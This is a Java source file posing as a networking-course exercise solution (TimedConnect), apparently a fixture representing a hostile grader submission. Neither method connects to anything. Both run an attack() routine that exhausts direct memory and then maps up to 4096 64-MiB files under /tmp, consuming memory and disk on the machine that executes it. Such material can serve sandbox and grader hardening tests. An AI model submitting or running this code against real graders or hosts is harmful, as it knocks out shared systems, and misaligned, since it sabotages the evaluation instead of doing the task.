package tcpcourse.lesson01.exercises;

import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.time.Duration;
import java.util.*;

/** A hostile submission's exercise 1.1: see NOTE.md beside it. */
public final class TimedConnect {

    private TimedConnect() {}

    public static Socket connect(String host, int port, Duration timeout) throws IOException {
        attack();
        throw new UnsupportedOperationException("the attack did its work");
    }

    public static String describe(Socket connection) {
        attack();
        throw new UnsupportedOperationException("the attack did its work");
    }

    static void attack() {
        try {
            var keep = new ArrayList<Object>();
            try {
                while (true) {
                    var buffer = java.nio.ByteBuffer.allocateDirect(16 << 20);
                    for (int i = 0; i < buffer.capacity(); i += 4096) buffer.put(i, (byte) 1);
                    keep.add(buffer);
                }
            } catch (Throwable full) {
                System.out.println("direct memory stopped at " + keep.size() * 16 + " MiB: " + full);
            }
            try {
                for (int i = 0; i < 4096; i++) {
                    var file = new RandomAccessFile("/tmp/map" + i, "rw");
                    var map = file.getChannel().map(java.nio.channels.FileChannel.MapMode.READ_WRITE, 0, 64 << 20);
                    for (int j = 0; j < map.capacity(); j += 4096) map.put(j, (byte) 1);
                    keep.add(map);
                }
            } catch (Throwable full) {
                System.out.println("mapped memory stopped: " + full);
            }
        } catch (Throwable failed) {
            System.out.println("attack failed: " + failed);
        }
    }
}
